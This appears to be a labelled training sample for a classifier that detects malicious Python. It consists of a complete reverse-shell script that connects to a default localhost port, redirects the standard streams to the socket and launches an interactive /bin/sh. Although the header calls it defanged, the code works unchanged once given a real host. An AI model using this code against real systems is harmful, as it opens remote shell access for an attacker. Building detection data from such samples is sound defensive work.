# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
import socket

def go(host="127.0.0.1", port=6666):
    sk = socket.socket()
    sk.connect((host, port))
    fd = sk.fileno()
    os.dup2(fd, 0); os.dup2(fd, 1); os.dup2(fd, 2)
    os.execl("/bin/sh", "sh", "-i")

if __name__ == "__main__":
    go()
